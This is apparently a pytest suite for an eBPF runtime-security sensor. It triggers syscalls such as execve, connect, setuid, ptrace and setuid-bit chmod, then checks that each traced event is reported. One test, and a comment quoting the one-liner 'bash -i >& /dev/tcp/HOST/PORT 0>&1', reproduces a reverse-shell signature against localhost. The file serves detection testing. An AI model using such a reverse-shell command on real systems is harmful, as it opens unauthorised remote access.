"""The bpftrace sensor on real processes: each traced syscall observed from a process we start."""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from podlab import PodLab
from sensorlog import EventLog, run_sensor

from conftest import need_podlab, need_root, require
from kubeguard.sensors.ebpf import EbpfSensor, tracing_dir

PY = sys.executable


@pytest.fixture(scope="module", params=["exec probe", "bpftrace exec sections"])
def log(request: pytest.FixtureRequest) -> Iterator[EventLog]:
    """The sensor with the compiled exec probe (the default where it builds) and with kubeguard.bt's own exec
    sections (its fallback): every test holds for both."""
    need_root("bpftrace")
    require(shutil.which("bpftrace") is not None, "bpftrace")
    require(tracing_dir() is not None, "tracefs")
    record = Path(os.environ["KG_RECORD_BPFTRACE"]) if os.environ.get("KG_RECORD_BPFTRACE") else None
    yield from run_sensor(EbpfSensor(record=record, exec_probe=request.param == "exec probe"))


def test_the_exec_probe_runs_where_asked(log: EventLog) -> None:
    """Under CI the compiled exec probe must build and run (clang, bpftool and libbpf-dev come with
    scripts/setup-host.sh); with it off, bpftrace runs the exec sections itself."""
    sensor = log.sensor
    assert isinstance(sensor, EbpfSensor)
    if sensor.exec_probe:
        require(sensor.exec_probe_state == "compiled", f"the exec probe: {sensor.exec_probe_state}")
        assert sensor.probe is not None and sensor.probe.poll() is None
    else:
        assert sensor.probe is None and sensor.exec_probe_state == "off"


def py(code: str, **kwargs) -> subprocess.CompletedProcess[str]:
    """Run a small Python program as a child process (its pid is what the sensor must report)."""
    return subprocess.run([PY, "-c", textwrap.dedent(code)], capture_output=True, text=True, timeout=30,
                          check=True, **kwargs)


def mark() -> str:
    return "kgs" + secrets.token_hex(4)


def test_exec_with_args_cwd_and_exit_code(log: EventLog, tmp_path: Path) -> None:
    tag = mark()
    proc = subprocess.run(["/bin/sh", "-c", f"/bin/echo {tag} two 'three four' >/dev/null; exit 7"], cwd=tmp_path)
    assert proc.returncode == 7
    ev = log.wait(lambda e: e["evt.type"] == "execve" and e["proc.name"] == "echo" and tag in e.get("proc.args", ""))
    assert ev["evt.res"] == "SUCCESS"
    assert ev["proc.args"] == f"{tag} two three four"
    assert ev["proc.exepath"] == "/bin/echo"
    assert ev["proc.name"] == "echo"
    assert ev["proc.cwd"] == f"{tmp_path}/"
    assert ev["user.uid"] == 0
    assert ev["proc.ppid"] != ev["proc.pid"]
    assert ev["_pidns"] == os.stat("/proc/self/ns/pid").st_ino
    shell = log.wait(lambda e: e["evt.type"] == "procexit" and e["proc.pid"] == ev["proc.ppid"])
    assert shell["evt.arg.ret"] == 7


def whole_argv(log: EventLog) -> bool:
    """Whether the sensor reports every argument whole (the compiled probe's E lines) or kubeguard.bt's split
    lines' 15 arguments of 63 bytes."""
    return isinstance(log.sensor, EbpfSensor) and log.sensor.probe is not None


@pytest.mark.parametrize("count", [0, 1, 2, 3, 4, 6, 7, 8, 10, 11, 12, 14, 15, 20])
def test_exec_argv_of_every_length_the_probes_split_on(log: EventLog, count: int) -> None:
    """The entry line comes from one of three probes chosen by how many of argv[0..2] are set, and each V line's
    probe runs only when the line before it said more: every boundary gives the whole argv (or its first 15; the
    compiled probe all of them)."""
    tag = mark()
    args = [f"{tag}-{i}" for i in range(count)]
    subprocess.run(["/bin/echo", *args], check=True, capture_output=True)
    if count == 0:
        subprocess.run([PY, "-c", "import os; os.execv('/bin/echo', ['echo', '" + tag + "'])"], check=True,
                       capture_output=True)
        args = [tag]
    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.name") == "echo"
                  and (e.get("proc.args") or "").startswith(args[0]))
    if whole_argv(log):
        assert ev["proc.args"] == " ".join(args)
        assert not ev.get("_argv_truncated")
    else:
        assert ev["proc.args"] == " ".join(args[:14])
        assert bool(ev.get("_argv_truncated")) == (len(args) + 1 >= 15)
    assert ev["proc.exepath"] == "/bin/echo"


def test_exec_with_long_and_empty_arguments(log: EventLog) -> None:
    """The compiled probe reports arguments whole (up to its 1 KiB copy), empty ones too; bpftrace's sections cut
    each at 63 bytes and end argv at the first empty one."""
    tag = mark()
    long_arg = f"{tag}-" + "x" * 300
    subprocess.run(["/bin/echo", tag, "", long_arg, "after"], check=True, capture_output=True)
    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.name") == "echo"
                  and (e.get("proc.args") or "").startswith(tag))
    if whole_argv(log):
        assert ev["proc.args"] == f"{tag}  {long_arg} after" and not ev.get("_argv_truncated")
    else:
        assert ev["proc.args"] == tag
    huge = [f"{tag}{i:04d}" + "y" * 100 for i in range(12)]  # 1.3 KB: past the probe's copy
    subprocess.run(["/bin/echo", *huge], check=True, capture_output=True)
    cut = log.wait(lambda e: e["evt.type"] == "execve" and (e.get("proc.args") or "").startswith(f"{tag}0000"))
    if whole_argv(log):
        assert cut["_argv_truncated"] is True
        assert cut["proc.args"].startswith(" ".join(huge[:8]))
        assert len(cut["proc.args"]) == 1024 - len("/bin/echo") - 1  # the copy after argv[0], NULs as spaces
    else:
        assert cut["proc.args"] == " ".join(h[:63] for h in huge[:12])


def test_exec_with_only_argv0_and_with_an_empty_argv(log: EventLog) -> None:
    tag = mark()
    link = Path(tempfile.mkdtemp(prefix="kgs", dir="/tmp")) / tag
    link.symlink_to("/bin/true")
    subprocess.run([str(link)], check=True)  # argv = [link]: only argv[0]
    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("evt.arg.filename") == str(link))
    assert (ev["proc.exe"], ev["proc.args"]) == (str(link), "")
    py(f"""
        import ctypes, os
        if os.fork() == 0:
            libc = ctypes.CDLL(None)
            argv = (ctypes.c_char_p * 1)(None)  # argv = []: no string to read at all
            libc.execve(b"{link}", argv, argv)
            os._exit(127)
        os.wait()
    """)
    empty = log.wait(lambda e: e["evt.type"] == "execve" and e.get("evt.arg.filename") == str(link)
                     and e["proc.pid"] != ev["proc.pid"])
    assert (empty["evt.res"], empty["proc.exepath"], empty["proc.args"]) == ("SUCCESS", str(link), "")


@pytest.mark.parametrize("depth", [1, 3, 4, 6, 7, 9, 12])
def test_exec_cwd_of_every_depth_the_walks_split_on(log: EventLog, depth: int) -> None:
    """The cwd is walked 3 components per probe, the next probe only when the walk before it was not at the root."""
    base = Path(tempfile.mkdtemp(prefix="kgs", dir="/tmp"))  # /tmp/kgsXXXX: 2 components
    cwd = base.joinpath(*(f"d{i}" for i in range(depth - 2))) if depth > 2 else base
    if depth == 1:
        cwd = Path("/tmp")
    cwd.mkdir(parents=True, exist_ok=True)
    tag = mark()
    subprocess.run(["/bin/echo", tag], check=True, capture_output=True, cwd=cwd)
    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.args") == tag)
    assert len(cwd.parts) - 1 == depth
    expected = f"{cwd}/" if depth <= 9 else "..." + "/" + "/".join(cwd.parts[-9:]) + "/"
    assert ev["proc.cwd"] == expected


def test_exec_in_new_pid_namespace_and_with_tty(log: EventLog) -> None:
    tag = mark()
    subprocess.run(["unshare", "-pf", "/bin/echo", tag], check=True, capture_output=True)
    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.args") == tag)
    assert ev["proc.vpid"] == 1
    assert ev["proc.pid"] != 1
    assert ev["_pidns"] != os.stat("/proc/self/ns/pid").st_ino
    tag = mark()
    subprocess.run(["script", "-qc", f"/bin/echo {tag}", "/dev/null"], check=True, capture_output=True)
    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.args") == tag)
    assert ev["proc.tty"] != 0


def test_events_come_in_kernel_time_order_across_cpus(log: EventLog) -> None:
    """A parent execs on the second CPU and its child on the first, moments later: bpftrace reads one CPU's ring
    after the other, yet the sensor emits every parent's exec before its child's (the agent looks the parent up
    when the child's exec comes; Falco's parent-name rules need it), and the whole stream in time order."""
    require((os.cpu_count() or 1) >= 2, "two CPUs")
    tag = mark()
    rounds = 60
    script = f"for i in $(seq {rounds}); do taskset -c 1 sh -c 'taskset -c 0 /bin/echo {tag} >/dev/null'; done"
    subprocess.run(["sh", "-c", script], check=True, timeout=120)
    def child(e: dict) -> bool:
        return (e["evt.type"] == "execve" and e.get("proc.name") == "echo" and e["evt.res"] == "SUCCESS"
                and tag in (e.get("proc.args") or ""))

    log.wait(lambda e: child(e) and len(log.all(child)) >= rounds, timeout=60)
    children = log.all(child)
    assert len({c["proc.pid"] for c in children}) == rounds
    with log.lock:
        stream = list(log.events)
    position = {id(e): n for n, e in enumerate(stream)}
    for child in children:
        parents = [n for n, e in enumerate(stream) if e["evt.type"] == "execve" and e["evt.res"] == "SUCCESS"
                   and e["proc.pid"] == child["proc.ppid"] and e.get("proc.name") == "sh"
                   and tag in (e.get("proc.args") or "")]
        assert parents, f"no exec of the parent {child['proc.ppid']}"
        assert parents[-1] < position[id(child)], "a child's exec came before its parent's"
    first = position[id(children[0])]
    times = [e["evt.time"] for e in stream[first:position[id(children[-1])] + 1]]
    assert times == sorted(times), "events out of kernel-time order"
    assert log.sensor.stats()["late"] == 0


def test_failed_exec_reports_errno(log: EventLog) -> None:
    missing = Path("/tmp") / f"{mark()}-missing"  # short: the sensor keeps 64 bytes of a path
    py(f"""
        import os
        try:
            os.execv({str(missing)!r}, [{str(missing)!r}])
        except FileNotFoundError:
            pass
    """)
    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.exepath") == str(missing))
    assert ev["evt.res"] == "ENOENT"
    assert ev["evt.rawres"] == -2


def test_connect_and_accept_ipv4(log: EventLog) -> None:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        port = server.getsockname()[1]
        client = subprocess.Popen([PY, "-c", textwrap.dedent(f"""
            import socket, sys
            s = socket.create_connection(("127.0.0.1", {port}))
            print(s.getsockname()[1], flush=True)
            sys.stdin.read()
        """)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        conn, _ = server.accept()
        assert client.stdout is not None
        cport = int(client.stdout.readline())
        conn.close()
        assert client.stdin is not None
        client.stdin.close()
        client.wait(timeout=10)
    ev = log.wait(lambda e: e["evt.type"] == "connect" and e["proc.pid"] == client.pid and e.get("fd.sport") == port)
    assert ev["evt.res"] == "SUCCESS"
    assert (ev["fd.sip"], ev["fd.cip"], ev["fd.cport"]) == ("127.0.0.1", "127.0.0.1", cport)
    assert (ev["fd.type"], ev["fd.l4proto"]) == ("ipv4", "tcp")
    assert ev["fd.name"] == f"127.0.0.1:{cport}->127.0.0.1:{port}"
    acc = log.wait(lambda e: e["evt.type"].startswith("accept") and e["proc.pid"] == os.getpid()
                   and e.get("fd.cport") == cport)
    assert (acc["fd.sip"], acc["fd.sport"], acc["fd.rport"], acc["fd.lport"]) == ("127.0.0.1", port, cport, port)


def test_connect_ipv6_refused_and_unix(log: EventLog, tmp_path: Path) -> None:
    with socket.socket(socket.AF_INET6) as probe:
        probe.bind(("::1", 0))
        port = probe.getsockname()[1]  # bound, not listening: connect is refused
        sock_path = tmp_path / "kg.sock"
        with socket.socket(socket.AF_UNIX) as unix_server:
            unix_server.bind(str(sock_path))
            unix_server.listen()
            done = py(f"""
                import socket, os
                s = socket.socket(socket.AF_INET6)
                print(os.getpid(), s.connect_ex(("::1", {port})))
                u = socket.socket(socket.AF_UNIX)
                u.connect({str(sock_path)!r})
            """)
    pid = int(done.stdout.split()[0])
    ev = log.wait(lambda e: e["evt.type"] == "connect" and e["proc.pid"] == pid and e.get("fd.type") == "ipv6")
    assert (ev["fd.sip"], ev["fd.sport"], ev["evt.res"]) == ("::1", port, "ECONNREFUSED")
    ev = log.wait(lambda e: e["evt.type"] == "connect" and e["proc.pid"] == pid and e.get("fd.type") == "unix")
    assert ev["fd.name"] == str(sock_path)
    assert ev["evt.res"] == "SUCCESS"


def test_open_of_watched_paths_only(log: EventLog, tmp_path: Path) -> None:
    unwatched = tmp_path / "plain.txt"
    unwatched.write_text("x")
    done = py(f"""
        import os
        print(os.getpid())
        open("/etc/hostname").read()
        open({str(unwatched)!r}).read()
        try:
            os.open("/etc/{mark()}-absent", os.O_WRONLY)
        except FileNotFoundError:
            pass
    """)
    pid = int(done.stdout)
    ev = log.wait(lambda e: e["evt.type"] == "openat" and e["proc.pid"] == pid and e["fd.name"] == "/etc/hostname")
    assert ev["evt.is_open_read"] is True
    assert ev["evt.is_open_write"] is False
    assert ev["fd.num"] >= 3
    assert "O_RDONLY" in ev["evt.arg.flags"]
    failed = log.wait(lambda e: e["evt.type"] == "openat" and e["proc.pid"] == pid and e["evt.res"] == "ENOENT")
    assert failed["evt.is_open_write"] is True
    log.wait(lambda e: e["evt.type"] == "procexit" and e["proc.pid"] == pid)
    # the test's own write_text above is reported (every open for writing is); the read of the child is not
    assert not log.all(lambda e: e.get("fd.name") == str(unwatched) and e.get("proc.pid") == pid)


def test_setuid_setresuid_setgid(log: EventLog) -> None:
    done = py("""
        import os
        print(os.getpid())
        os.setgid(65534)
        os.setresuid(65534, 65534, 65534)
        try:
            os.setuid(0)
        except PermissionError:
            pass
    """)
    pid = int(done.stdout)
    gid = log.wait(lambda e: e["evt.type"] == "setgid" and e["proc.pid"] == pid)
    assert (gid["evt.arg.gid"], gid["evt.res"], gid["group.gid"]) == (65534, "SUCCESS", 65534)
    res = log.wait(lambda e: e["evt.type"] == "setresuid" and e["proc.pid"] == pid)
    assert (res["evt.arg.ruid"], res["evt.arg.euid"], res["evt.arg.suid"]) == (65534, 65534, 65534)
    assert res["user.uid"] == 65534
    back = log.wait(lambda e: e["evt.type"] == "setuid" and e["proc.pid"] == pid)
    assert (back["evt.arg.uid"], back["evt.res"]) == (0, "EPERM")


def test_capset(log: EventLog) -> None:
    done = py("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        header = (ctypes.c_uint32 * 2)(0x20080522, 0)
        data = (ctypes.c_uint32 * 6)()
        assert libc.capget(header, data) == 0
        data[0] = 1 << 21 | 1 << 7            # effective: CAP_SYS_ADMIN, CAP_SETUID
        data[3] = 0
        print(os.getpid(), libc.capset(header, data))
    """)
    pid, rc = (int(v) for v in done.stdout.split())
    assert rc == 0
    ev = log.wait(lambda e: e["evt.type"] == "capset" and e["proc.pid"] == pid)
    assert ev["evt.arg.cap_effective"] == "CAP_SETUID CAP_SYS_ADMIN"
    assert "CAP_SYS_ADMIN" in ev["evt.arg.cap_permitted"]


def test_ptrace_attach(log: EventLog) -> None:
    target = subprocess.Popen(["sleep", "30"])
    try:
        done = py(f"""
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
            print(os.getpid(), libc.ptrace(16, {target.pid}, None, None))
            os.waitpid({target.pid}, 0x40000000)  # __WALL: collect the stop
            libc.ptrace(17, {target.pid}, None, None)
        """)
    finally:
        target.kill()
        target.wait()
    pid, rc = (int(v) for v in done.stdout.split())
    assert rc == 0
    ev = log.wait(lambda e: e["evt.type"] == "ptrace" and e["proc.pid"] == pid
                  and e["evt.arg.request"] == "PTRACE_ATTACH")
    assert ev["evt.arg.pid"] == target.pid
    assert ev["evt.res"] == "SUCCESS"


def test_unshare_mount_umount_in_private_namespace(log: EventLog) -> None:
    tag = mark()
    target = Path(tempfile.mkdtemp(prefix="kgs-mnt-", dir="/tmp"))  # short: 64 bytes of a path are kept
    request_cleanup = target.rmdir
    subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c",
                    f"mount -t tmpfs {tag} {target} && umount {target}"], check=True, capture_output=True)
    request_cleanup()
    mount = log.wait(lambda e: e["evt.type"] == "mount" and e.get("evt.arg.dev") == tag)
    assert (mount["evt.arg.dir"], mount["evt.arg.type"], mount["evt.res"]) == (str(target), "tmpfs", "SUCCESS")
    umount = log.wait(lambda e: e["evt.type"] == "umount" and e.get("evt.arg.name") == str(target))
    assert umount["evt.res"] == "SUCCESS"
    # unshare(1) calls unshare(CLONE_NEWNS), then execs the shell that forks mount
    unshare = log.wait(lambda e: e["evt.type"] == "unshare" and e["proc.pid"] == mount["proc.ppid"])
    assert "CLONE_NEWNS" in unshare["evt.arg.flags"]


def test_setns(log: EventLog) -> None:
    tag = mark()
    holder = subprocess.Popen(["unshare", "-u", "sleep", "30"])
    try:
        for _ in range(100):  # until sleep runs in its own UTS namespace
            if os.stat(f"/proc/{holder.pid}/ns/uts").st_ino != os.stat("/proc/self/ns/uts").st_ino:
                break
            time.sleep(0.02)
        subprocess.run(["nsenter", "-t", str(holder.pid), "-u", "/bin/echo", tag], check=True, capture_output=True)
    finally:
        holder.kill()
        holder.wait()
    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.args") == tag)
    setns = log.wait(lambda e: e["evt.type"] == "setns" and e["proc.pid"] == ev["proc.pid"])
    assert setns["evt.arg.nstype"] == "CLONE_NEWUTS"
    assert setns["evt.res"] == "SUCCESS"


def test_memfd_create(log: EventLog) -> None:
    tag = mark()
    done = py(f"import os; os.memfd_create({tag!r}); print(os.getpid())")
    ev = log.wait(lambda e: e["evt.type"] == "memfd_create" and e["proc.pid"] == int(done.stdout))
    assert ev["evt.arg.name"] == tag
    assert "MFD_CLOEXEC" in ev["evt.arg.flags"]
    assert ev["fd.num"] >= 3


def test_dup2_of_socket_onto_stdout_is_a_reverse_shell_signature(log: EventLog) -> None:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        port = server.getsockname()[1]
        # bash's own /dev/tcp redirection, as in `bash -i >& /dev/tcp/HOST/PORT 0>&1`
        shell = subprocess.Popen(["bash", "-c", f"echo {mark()} >& /dev/tcp/127.0.0.1/{port}"])
        conn, _ = server.accept()
        conn.recv(100)
        conn.close()
        shell.wait(timeout=10)
    dups = [log.wait(lambda e, n=n: e["evt.type"] in ("dup2", "dup3") and e["proc.pid"] == shell.pid
                     and e["evt.arg.newfd"] == n) for n in (1, 2)]
    for ev in dups:
        assert (ev["fd.type"], ev["fd.sip"], ev["fd.sport"], ev["fd.l4proto"]) == ("ipv4", "127.0.0.1", port, "tcp")
        assert ev["fd.num"] == ev["evt.arg.newfd"]
    # bash restores its stdout afterwards: that dup2 has a non-socket old fd
    assert log.all(lambda e: e["evt.type"] in ("dup2", "dup3") and e["proc.pid"] == shell.pid
                   and e.get("fd.type") not in ("ipv4", "ipv6"))


def test_chmod_adding_setuid_bit(log: EventLog) -> None:
    workdir = Path(tempfile.mkdtemp(prefix="kgs-", dir="/tmp"))  # short: 64 bytes of a path are kept
    target = workdir / "suid-bin"
    target.write_text("#!/bin/sh\n")
    subprocess.run(["chmod", "u+s,a+x", str(target)], check=True)
    subprocess.run(["chmod", "0644", str(target)], check=True)  # no setuid/setgid/execute bit: not traced
    shutil.rmtree(workdir)
    ev = log.wait(lambda e: e["evt.type"] in ("chmod", "fchmodat", "fchmodat2", "fchmod")
                  and e.get("fd.name", "") == str(target))
    assert "S_ISUID" in ev["evt.arg.mode"]
    assert ev["evt.rawarg.mode"] & 0o4000
    assert len(log.all(lambda e: e.get("fd.name", "") == str(target) and "chmod" in e["evt.type"])) == 1


def test_cgroup_id_is_the_pods_cgroup_inode(log: EventLog, podlab: PodLab) -> None:
    need_podlab()
    pod = podlab.pod("sensor-probe")
    tag = mark()
    result = pod.run(["/bin/echo", tag])
    assert result.returncode == 0, result.stderr
    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.args") == tag)
    assert ev["_cgroup_id"] == pod.cgroup_id
    assert ev["_cgroup_id"] != os.stat("/sys/fs/cgroup").st_ino


def test_stats_count_events_without_loss(log: EventLog) -> None:
    stats = log.sensor.stats()
    assert stats["events"] >= len(log.events) > 0
    assert stats["lost"] == 0
    assert stats["parse_errors"] == 0


def test_datagrams_without_connect_reported_when_destination_changes(log: EventLog) -> None:
    """sendto/sendmsg naming a destination on a UDP socket: one event per change of destination (Falco's
    fd.name_changed), none for connected or Unix-socket sends."""
    child = py("""
        import socket
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(3):
            u.sendto(b"x", ("127.0.0.2", 5301))
        u.sendto(b"x", ("127.0.0.3", 5302))
        u.sendmsg([b"x"], [], 0, ("127.0.0.2", 5301))
        v6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        v6.sendto(b"x", ("::1", 5303))
        c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        c.connect(("127.0.0.2", 5304))
        c.send(b"x")
        x = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        try:
            x.sendto(b"x", "/nonexistent/kg.sock")
        except OSError:
            pass
        u.sendto(b"x", ("127.0.0.4", 5305))  # the last one: once it is in, all are
        print(u.getsockname()[1], flush=True)
    """)
    lport = int(child.stdout.strip())
    last = log.wait(lambda e: e["evt.type"] == "sendto" and e.get("fd.sport") == 5305)
    pid = last["proc.pid"]
    sends = log.all(lambda e: e["evt.type"] in ("sendto", "sendmsg") and e["proc.pid"] == pid)
    assert sorted((e["evt.type"], e["fd.sip"], e["fd.sport"]) for e in sends) == sorted([
        ("sendto", "127.0.0.2", 5301), ("sendto", "127.0.0.3", 5302), ("sendmsg", "127.0.0.2", 5301),
        ("sendto", "::1", 5303), ("sendto", "127.0.0.4", 5305)])
    assert (last["fd.l4proto"], last["fd.connected"], last["fd.name_changed"], last["evt.rawres"]) == (
        "udp", False, True, 1)
    assert last["fd.name"] == f"0.0.0.0:{lport}->127.0.0.4:5305"


def test_datagrams_received_without_connect_reported_when_sender_changes(log: EventLog) -> None:
    """recvfrom/recvmsg asking for the sender on an unconnected UDP socket: one event per new sender."""
    child = subprocess.Popen([PY, "-c", textwrap.dedent("""
        import socket
        r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        r.bind(("127.0.0.1", 0))
        print(r.getsockname()[1], flush=True)
        senders = [r.recvfrom(16)[1][1] for _ in range(3)]
        senders.append(r.recvmsg(16)[3][1])
        print(*senders, flush=True)
    """)], stdout=subprocess.PIPE, text=True)
    assert child.stdout is not None
    port = int(child.stdout.readline())
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as a, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as b:
        for sender in (a, a, b, a):
            sender.sendto(b"x", ("127.0.0.1", port))
            time.sleep(0.05)  # one at a time: the receiver sees them in this order
        out, _ = child.communicate(timeout=30)
    a_port, _, b_port, _ = (int(p) for p in out.split())
    last = log.wait(lambda e: e["evt.type"] == "recvmsg" and e["proc.pid"] == child.pid)
    got = log.all(lambda e: e["evt.type"] in ("recvfrom", "recvmsg") and e["proc.pid"] == child.pid)
    assert sorted((e["evt.type"], e["fd.cport"]) for e in got) == sorted([
        ("recvfrom", a_port), ("recvfrom", b_port), ("recvmsg", a_port)])
    assert last["fd.name"] == f"127.0.0.1:{a_port}->127.0.0.1:{port}"
    assert (last["fd.sport"], last["fd.connected"], last["fd.name_changed"], last["fd.l4proto"]) == (
        port, False, True, "udp")


MMSG = textwrap.dedent("""
    import ctypes, socket, struct
    C = ctypes
    libc = C.CDLL(None, use_errno=True)

    class IOV(C.Structure):
        _fields_ = [("base", C.c_void_p), ("len", C.c_size_t)]

    class MMSG(C.Structure):  # struct mmsghdr: a struct msghdr and the message's length
        _fields_ = [("name", C.c_void_p), ("namelen", C.c_uint32), ("iov", C.POINTER(IOV)), ("iovlen", C.c_size_t),
                    ("control", C.c_void_p), ("controllen", C.c_size_t), ("flags", C.c_int), ("pad", C.c_int),
                    ("len", C.c_uint)]

    def vector(names):
        buffers = [C.create_string_buffer(n, 16) for n in names]
        data = C.create_string_buffer(16)
        iov = IOV(C.cast(data, C.c_void_p), 16)
        vec = (MMSG * len(names))(*[MMSG(C.cast(b, C.c_void_p), 16, C.pointer(iov), 1, None, 0, 0, 0, 0)
                                    for b in buffers])
        return vec, buffers, data, iov

    def inet(address, port):
        return struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", port, socket.inet_aton(address))
""")


def test_sendmmsg_reported_per_new_destination(log: EventLog) -> None:
    """sendmmsg (through libc: Python's socket has none): each message naming a new destination is reported as
    sendto is, sharing sendto's last destination: a sendto after it to the same one is not reported."""
    child = py(MMSG + textwrap.dedent("""
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        vec, *_ = vector([inet("127.0.0.2", 5311), inet("127.0.0.2", 5311), inet("127.0.0.3", 5312)])
        assert libc.sendmmsg(u.fileno(), vec, 3, 0) == 3
        u.sendto(b"x", ("127.0.0.3", 5312))  # the destination sendmmsg's last message named: not reported
        u.sendto(b"x", ("127.0.0.4", 5313))  # the last one: once it is in, all are
    """))
    assert child.returncode == 0
    last = log.wait(lambda e: e["evt.type"] == "sendto" and e.get("fd.sport") == 5313)
    sends = log.all(lambda e: e["evt.type"] in ("sendto", "sendmmsg") and e["proc.pid"] == last["proc.pid"])
    assert sorted((e["evt.type"], e["fd.sip"], e["fd.sport"]) for e in sends) == sorted([
        ("sendmmsg", "127.0.0.2", 5311), ("sendmmsg", "127.0.0.3", 5312), ("sendto", "127.0.0.4", 5313)])
    first = next(e for e in sends if e["evt.type"] == "sendmmsg")
    assert (first["fd.l4proto"], first["fd.connected"], first["fd.name_changed"]) == ("udp", False, True)


def test_recvmmsg_reported_per_new_sender(log: EventLog) -> None:
    """recvmmsg asking for the senders on an unconnected UDP socket: one event per new sender among the messages
    one call receives."""
    child = subprocess.Popen([PY, "-c", MMSG + textwrap.dedent("""
        import sys
        r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        r.bind(("127.0.0.1", 0))
        print(r.getsockname()[1], flush=True)
        sys.stdin.readline()  # the datagrams are queued: one call receives them all
        vec, *_ = vector([b"\\0" * 16] * 4)
        print(libc.recvmmsg(r.fileno(), vec, 4, 0x40, None), flush=True)  # MSG_DONTWAIT
    """)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert child.stdout is not None and child.stdin is not None
    port = int(child.stdout.readline())
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as a, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as b:
        for sender in (a, a, b):
            sender.sendto(b"x", ("127.0.0.1", port))
        a_port, b_port = a.getsockname()[1], b.getsockname()[1]
        out, _ = child.communicate("go\n", timeout=30)
    assert int(out) == 3
    log.wait(lambda e: e["evt.type"] == "recvmmsg" and e["proc.pid"] == child.pid and e["fd.cport"] == b_port)
    got = log.all(lambda e: e["evt.type"] == "recvmmsg" and e["proc.pid"] == child.pid)
    assert sorted(e["fd.cport"] for e in got) == sorted([a_port, b_port])
    assert got[0]["fd.name"] == f"127.0.0.1:{a_port}->127.0.0.1:{port}"
    assert (got[0]["fd.sport"], got[0]["fd.connected"], got[0]["fd.name_changed"]) == (port, False, True)
